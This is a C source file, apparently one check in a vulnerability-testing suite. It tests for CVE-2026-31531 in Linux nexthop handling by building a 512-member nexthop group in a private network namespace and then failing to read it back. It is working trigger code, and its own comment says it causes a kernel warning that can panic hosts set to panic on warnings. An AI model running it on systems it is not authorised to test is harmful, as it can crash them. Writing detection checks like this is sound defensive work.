// SPDX-License-Identifier: Apache-2.0
/*
 * CVE-2026-31531 (net/ipv4/nexthop.c): a group of nexthops that is large, but allowed, can be made and cannot be read. The
 * kernel writes a warning at each try, which counts as a crash where it is told to panic at warnings.
 */
#define _GNU_SOURCE
#include "holes.h"

#include <errno.h>
#include <linux/netlink.h>
#include <linux/nexthop.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <sched.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

/* Their list takes 4096 bytes, more than there is in the 4 KiB that an answer had. */
#define MEMBERS 512
#define GROUP (MEMBERS + 1)

static struct {
	struct nlmsghdr head;
	struct nhmsg body;
	char attributes[MEMBERS * sizeof(struct nexthop_grp) + 64];
} message;

static void begin(int type, int flags, int family)
{
	memset(&message, 0, sizeof(message));
	message.head.nlmsg_len = NLMSG_LENGTH(sizeof(message.body));
	message.head.nlmsg_type = type;
	message.head.nlmsg_flags = NLM_F_REQUEST | flags;
	message.body.nh_family = family;
}

static void add(int type, const void *data, unsigned size)
{
	struct rtattr *attribute = (void *)((char *)&message + NLMSG_ALIGN(message.head.nlmsg_len));

	attribute->rta_type = type;
	attribute->rta_len = RTA_LENGTH(size);
	memcpy(RTA_DATA(attribute), data, size);
	message.head.nlmsg_len = NLMSG_ALIGN(message.head.nlmsg_len) + RTA_ALIGN(attribute->rta_len);
}

/* Sends the message. Returns 0, also for an answer that is no error, or -1 with errno. */
static int ask(int fd)
{
	static union {
		struct nlmsghdr head;
		char bytes[1 << 14];
	} answer;
	ssize_t size;

	if (send(fd, &message, message.head.nlmsg_len, 0) < 0)
		cannot_tell("send");
	size = recv(fd, &answer, sizeof(answer), 0);
	if (size < (ssize_t)NLMSG_HDRLEN)
		cannot_tell("recv");
	if (answer.head.nlmsg_type != NLMSG_ERROR)
		return 0;
	errno = -((struct nlmsgerr *)NLMSG_DATA(&answer.head))->error;
	return errno ? -1 : 0;
}

/* Brings up the loopback interface and returns its number. */
static unsigned loopback(void)
{
	struct ifreq request = { .ifr_name = "lo", .ifr_flags = IFF_UP };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || ioctl(fd, SIOCSIFFLAGS, &request) || ioctl(fd, SIOCGIFINDEX, &request))
		cannot_tell("no loopback interface");
	close(fd);
	return request.ifr_ifindex;
}

static void make_group(int fd)
{
	static struct nexthop_grp members[MEMBERS];
	unsigned device = loopback();
	unsigned id;

	for (id = 1; id <= MEMBERS; id++) {
		begin(RTM_NEWNEXTHOP, NLM_F_CREATE | NLM_F_EXCL | NLM_F_ACK, AF_INET);
		add(NHA_ID, &id, sizeof(id));
		add(NHA_OIF, &device, sizeof(device));
		if (ask(fd))
			cannot_tell("no nexthop can be made");
		members[id - 1].id = id;
	}
	begin(RTM_NEWNEXTHOP, NLM_F_CREATE | NLM_F_EXCL | NLM_F_ACK, AF_UNSPEC);
	id = GROUP;
	add(NHA_ID, &id, sizeof(id));
	add(NHA_GROUP, members, sizeof(members));
	if (ask(fd))
		cannot_tell("no group of nexthops can be made");
}

static int get(int fd, unsigned id)
{
	begin(RTM_GETNEXTHOP, 0, AF_UNSPEC);
	add(NHA_ID, &id, sizeof(id));
	return ask(fd);
}

enum verdict nexthop_group(void)
{
	int fd;

	/* All of it is gone with the namespace. */
	enter_own(CLONE_NEWNET);
	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0)
		cannot_tell("no netlink socket");
	make_group(fd);
	if (get(fd, 1))
		cannot_tell("a nexthop cannot be read");
	if (!get(fd, GROUP))
		return CLOSED;
	if (errno != EMSGSIZE)
		cannot_tell("RTM_GETNEXTHOP");
	return OPEN;
}
